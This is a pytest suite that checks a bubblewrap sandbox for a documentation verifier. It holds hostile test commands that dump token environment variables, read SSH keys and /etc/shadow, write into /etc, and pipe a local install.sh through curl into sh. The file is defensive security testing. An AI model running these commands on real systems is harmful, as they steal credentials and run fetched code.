"""The live tier runs a page's commands in `ShellSession`: a minimal environment, a private HOME
and working directory, the bubblewrap sandbox, a network namespace of the page's own. Each hostile
page below is run through it here (no cluster needed) and must not see or change what it is
not given."""

from __future__ import annotations

import functools
import http.server
import os
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from cluster import kubectl as pinned_kubectl
from tests.security.sandboxing import needs_sandbox
from verify.confinement import sandbox as sandboxes
from verify.confinement.limits import Limits
from verify.confinement.sandbox import Sandbox, SandboxUnavailable, detect, required
from verify.live.network import PageNetwork
from verify.live.redact import MASK, Redactor, host_values
from verify.live.shell import FIXED, ShellSession, passed_env
from verify.live.workspace import Workspace
from verify.parsers import load_page

ROOT = Path(__file__).resolve().parents[2]
PAGES = Path(__file__).resolve().parent / "pages"
TOKEN = "s3cr3t-ci-token-4f9a2c"
UNCONFINED = Sandbox("none", "test")


@pytest.fixture
def workspace() -> Iterator[Workspace]:
    # Like the runner: a fresh private directory under the system's temporary directory, removed afterwards.
    space = Workspace.create("test-page")
    yield space
    space.remove()


@pytest.fixture
def host_secret(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("MY_CI_TOKEN", TOKEN)
    return TOKEN


def kubectl() -> Path:
    return pinned_kubectl.require()


def session(workspace: Workspace, box: Sandbox | None = None, passed: dict[str, str] | None = None,
            network: PageNetwork | None = None) -> ShellSession:
    return ShellSession(workspace, kubectl(), box or detect(), passed, network)


def hidden_command(page: str) -> str:
    """The command of the page's hidden step, as the live tier would run it."""
    (step,) = [s for s in load_page(PAGES / page, ROOT).steps if s.kind.value == "hidden-command"]
    return step.commands[0]


# -- the environment -----------------------------------------------------------------------------
@pytest.mark.parametrize("confined", [True, False], ids=["sandbox", "environment-only"])
def test_the_leaking_page_finds_no_token(workspace: Workspace, host_secret: str, confined: bool) -> None:
    if confined:
        needs_sandbox()
    box = None if confined else UNCONFINED
    command = hidden_command("leaking.md")
    assert command == "env | grep -i token"
    result = session(workspace, box).run(command, 30)
    assert host_secret not in result.output
    assert result.exit_code == 1  # grep found nothing at all


def test_the_environment_is_the_allow_list_and_nothing_else(workspace: Workspace, host_secret: str) -> None:
    result = session(workspace, UNCONFINED).run("env", 30)
    names = {line.split("=", 1)[0] for line in result.output.splitlines() if "=" in line}
    assert names - FIXED <= {"PWD", "OLDPWD", "SHLVL", "_"}, names - FIXED
    assert f"HOME={workspace.page / '.home'}" in result.output
    assert (workspace.page / ".home").is_dir()
    path = next(line for line in result.output.splitlines() if line.startswith("PATH="))
    assert path == f"PATH={kubectl().parent}:/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin"


def test_in_the_sandbox_the_page_sees_its_directory_at_work_and_kubectl_at_opt(workspace: Workspace) -> None:
    needs_sandbox()
    result = session(workspace).run('pwd; echo "$HOME $KUBECONFIG"; command -v kubectl', 30)
    assert result.output.split() == ["/work", "/work/.home", "/work/.kubeconfig", "/opt/verify/bin/kubectl"]


def test_a_variable_passed_by_name_reaches_the_page_and_is_redacted(workspace: Workspace, host_secret: str) -> None:
    passed = passed_env(["MY_CI_TOKEN"])
    result = session(workspace, UNCONFINED, passed).run('echo "token is $MY_CI_TOKEN"', 30)
    assert f"token is {host_secret}" in result.output
    assert Redactor.for_page(load_page(PAGES / "leaking.md", ROOT))(result.output).strip() == f"token is {MASK}"


def test_pass_env_refuses_fixed_and_missing_names() -> None:
    with pytest.raises(ValueError, match="sets HOME itself"):
        passed_env(["HOME"], {"HOME": "/root"})
    with pytest.raises(ValueError, match="not set"):
        passed_env(["NOPE"], {})


def test_redaction_covers_every_value_of_the_host_environment() -> None:
    environ = {"MY_CI_TOKEN": TOKEN, "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG", "CI": "true",
               "HOME": "/home/builder", "PEM": "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END KEY-----"}
    redact = Redactor.for_page(load_page(PAGES / "leaking.md", ROOT), environ)
    text = f"MY_CI_TOKEN={TOKEN}\nkey wJalrXUtnFEMI/K7MDENG\nline MIIEvQIBADANBgkqhkiG9w0B\nCI=true in /home/builder"
    assert redact(text) == f"MY_CI_TOKEN={MASK}\nkey {MASK}\nline {MASK}\nCI=true in /home/builder"
    assert "true" not in host_values(environ)


# -- the filesystem ------------------------------------------------------------------------------
def test_the_page_that_reads_ssh_keys_reads_nothing(workspace: Workspace) -> None:
    needs_sandbox()
    command = hidden_command("reads-ssh.md")
    shell = session(workspace)
    result = shell.run(command, 30)
    assert result.exit_code != 0 and "No such file or directory" in result.output
    home = Path.home()
    for path in (home, home / ".ssh", home / ".kube", ROOT / ".git", ROOT, Path("/root"), Path("/home")):
        probe = shell.run(f"ls -a {path}", 30)
        assert probe.exit_code != 0, f"{path} is visible in the sandbox:\n{probe.output}"
    assert shell.run(f"cat {ROOT / '.git' / 'HEAD'}", 30).exit_code != 0


def test_files_of_the_host_outside_the_allow_list_are_invisible(workspace: Workspace, tmp_path: Path) -> None:
    needs_sandbox()
    secret = tmp_path / "secret.txt"
    secret.write_text(TOKEN, encoding="utf-8")
    result = session(workspace).run(f"cat {secret}; cat /etc/shadow; ls /run /sys /var/lib", 30)
    assert TOKEN not in result.output
    assert "root:" not in result.output


def test_the_repository_path_shows_nowhere_in_the_sandbox(workspace: Workspace) -> None:
    """Not in the mount table either: kubectl is a private copy, the page's directories are the verifier's own."""
    needs_sandbox()
    result = session(workspace).run("cat /proc/self/mountinfo; readlink -f /opt/verify/bin/kubectl; env", 30)
    assert str(ROOT) not in result.output and ".nox" not in result.output
    assert str(Path.home()) + "/" not in result.output


def test_the_page_that_writes_outside_its_directory_changes_nothing(workspace: Workspace) -> None:
    needs_sandbox()
    marker = f"verify-owned-{os.getpid()}"
    targets = [Path("/etc") / marker, Path("/") / marker, Path("/usr/local") / marker, Path("/tmp") / marker]
    try:
        shell = session(workspace)
        shell.run(f"echo owned>/etc/{marker}", 30)
        shell.run("cd /", 30)
        shell.run(f"touch {marker}; echo owned > /usr/local/{marker}", 30)
        inside = shell.run(f"echo mine > /tmp/{marker}; cat /tmp/{marker}", 30)
        assert inside.output.strip().endswith("mine")  # the command's /tmp is its own
        for target in targets:
            assert not target.exists(), f"the page wrote {target} on the host"
    finally:
        for target in targets:
            target.unlink(missing_ok=True)


def test_tmp_is_a_fresh_tmpfs_for_every_command(workspace: Workspace) -> None:
    needs_sandbox()
    shell = session(workspace)
    assert shell.run("echo one > /tmp/note && findmnt -n -o FSTYPE /tmp", 30).output.strip() == "tmpfs"
    assert shell.run("cat /tmp/note", 30).exit_code != 0


def test_the_page_keeps_its_own_directory_and_home_between_commands(workspace: Workspace) -> None:
    needs_sandbox()
    shell = session(workspace)
    assert shell.run("mkdir -p sub && cd sub && export GREETING=hello && echo x > ~/note", 30).exit_code == 0
    result = shell.run('pwd; echo "$GREETING"; cat ~/note', 30)
    assert result.output.split() == ["/work/sub", "hello", "x"]
    assert (workspace.page / ".home" / "note").read_text() == "x\n"


def test_an_ssh_agent_passed_by_name_is_the_only_way_to_ssh_keys(workspace: Workspace, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    needs_sandbox()
    import socket

    agent = tmp_path / "agent.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(agent))
    try:
        monkeypatch.setenv("SSH_AUTH_SOCK", str(agent))
        shell = session(workspace, passed=passed_env(["SSH_AUTH_SOCK"]))
        assert shell.run('test -S "$SSH_AUTH_SOCK" && echo agent-here', 30).output.strip() == "agent-here"
        assert "agent-here" not in session(workspace).run(f"test -S {agent} && echo agent-here", 30).output
    finally:
        server.close()


# -- the network and the processes ------------------------------------------------------------
@pytest.fixture
def loopback_server(tmp_path: Path) -> Iterator[str]:
    (tmp_path / "install.sh").write_text(f"cat /root/.ssh/id_rsa; echo token=$MY_CI_TOKEN; touch /etc/pwned-{os.getpid()}\n",
                                         encoding="utf-8")
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_curl_piped_into_sh_cannot_reach_this_machines_loopback(workspace: Workspace, loopback_server: str,
                                                                 host_secret: str) -> None:
    needs_sandbox()
    result = session(workspace).run(f"curl -fsS --max-time 5 {loopback_server}/install.sh | sh", 30)
    assert "token=" not in result.output  # nothing was fetched, so nothing ran
    assert "Failed to connect" in result.output or "Couldn't connect" in result.output, result.output
    assert not Path(f"/etc/pwned-{os.getpid()}").exists()


def test_in_its_own_network_namespace_the_page_reaches_the_forwarded_server_and_nothing_else(
        workspace: Workspace, loopback_server: str) -> None:
    """The API server's address is forwarded into the page's namespace; every other loopback port is closed there."""
    needs_sandbox()
    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
    try:
        network = PageNetwork.isolated(loopback_server.replace("http://", "https://"))
        try:
            shell = session(workspace, network=network)
            served = shell.run(f"curl -fsS --max-time 5 {loopback_server}/install.sh", 30)
            assert "token=$MY_CI_TOKEN" in served.output
            port = other.server_address[1]
            refused = shell.run(f"curl -sS --max-time 5 http://127.0.0.1:{port}/; echo rc=$?", 30)
            assert "rc=7" in refused.output, refused.output  # connection refused: not forwarded
            out = shell.run("curl -sS --max-time 3 http://192.0.2.1/; echo rc=$?", 30)
            assert "rc=7" in out.output or "rc=28" in out.output, out.output  # no route off the namespace
        finally:
            network.close()
    finally:
        other.server_close()


def test_the_pinned_kubectl_runs_in_the_sandbox_first_on_path(workspace: Workspace) -> None:
    needs_sandbox()
    result = session(workspace).run("command -v kubectl; kubectl version --client", 60)
    assert result.exit_code == 0 and "Client Version: v1." in result.output
    assert result.output.splitlines()[0] == "/opt/verify/bin/kubectl"


def test_no_capabilities_and_no_view_of_the_verifier(workspace: Workspace) -> None:
    needs_sandbox()
    result = session(workspace).run(f"grep CapEff /proc/self/status; test -e /proc/{os.getpid()}/environ && echo SEEN",
                                    30)
    assert "CapEff:\t0000000000000000" in result.output
    assert "SEEN" not in result.output


def test_timeouts_and_background_terminals_still_end_every_process(workspace: Workspace) -> None:
    needs_sandbox()
    shell = session(workspace)
    result = shell.run("sleep 30", 1)
    assert result.timed_out
    background = shell.start_background("sleep 300")
    assert background.running
    assert shell.close() == []
    assert not background.alive()


def test_output_beyond_the_cap_is_counted_not_kept(workspace: Workspace) -> None:
    """`seq 1 10000000` once drove the verifier to 415 MB; now it keeps the cap and counts the rest."""
    shell = ShellSession(workspace, kubectl(), detect(), limits=Limits(output=4096))
    result = shell.run("seq 1 100000", 60)
    printed = "".join(f"{i}\r\n" for i in range(1, 100001))  # as the terminal sends it
    assert result.output == printed[:4096].replace("\r\n", "\n").replace("\r", "")
    assert result.dropped == len(printed) - 4096


# -- saying so ------------------------------------------------------------------------------------
def test_this_machine_offers_bubblewrap_or_says_why_not() -> None:
    box = detect()
    assert box.describe().startswith("bubblewrap (" if box.active else "NONE (--unsafe-no-sandbox): ")


def test_without_bwrap_the_sandbox_is_refused_unless_the_maintainer_opts_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandboxes.shutil, "which", lambda *a, **k: None)
    sandboxes.detect.cache_clear()
    try:
        with pytest.raises(SandboxUnavailable, match=r"bwrap not found.*--unsafe-no-sandbox"):
            required()
        box = required(unsafe=True)
    finally:
        sandboxes.detect.cache_clear()
    assert not box.active and "bwrap not found" in box.describe()
    assert box.wrap(["true"], sandboxes.View(), Path("/tmp")) == ["true"]


def test_the_opt_out_is_a_loud_flag_or_variable_and_nothing_else() -> None:
    assert sandboxes.unsafe_requested(True, {})
    assert sandboxes.unsafe_requested(False, {"VERIFY_UNSAFE_NO_SANDBOX": "1"})
    assert not sandboxes.unsafe_requested(False, {"VERIFY_UNSAFE_NO_SANDBOX": "yes"})
    assert not sandboxes.unsafe_requested(False, {})


def test_the_live_command_line_says_which_sandbox_and_refuses_none(monkeypatch: pytest.MonkeyPatch,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    import argparse

    from verify.live import cli as live_cli
    from verify.options import UsageError

    monkeypatch.setattr(sandboxes, "detect", lambda: Sandbox("none", "bwrap not found"))
    monkeypatch.delenv("VERIFY_UNSAFE_NO_SANDBOX", raising=False)
    with pytest.raises(UsageError, match="no sandbox for the pages' commands: bwrap not found"):
        live_cli._sandbox(argparse.Namespace(pass_env=[], unsafe_no_sandbox=False))
    assert not live_cli._sandbox(argparse.Namespace(pass_env=[], unsafe_no_sandbox=True)).active
    assert "sandbox: NONE (--unsafe-no-sandbox): bwrap not found" in capsys.readouterr().out
    with pytest.raises(UsageError, match="--pass-env NOT_SET_ANYWHERE"):
        live_cli._sandbox(argparse.Namespace(pass_env=["NOT_SET_ANYWHERE"], unsafe_no_sandbox=True))
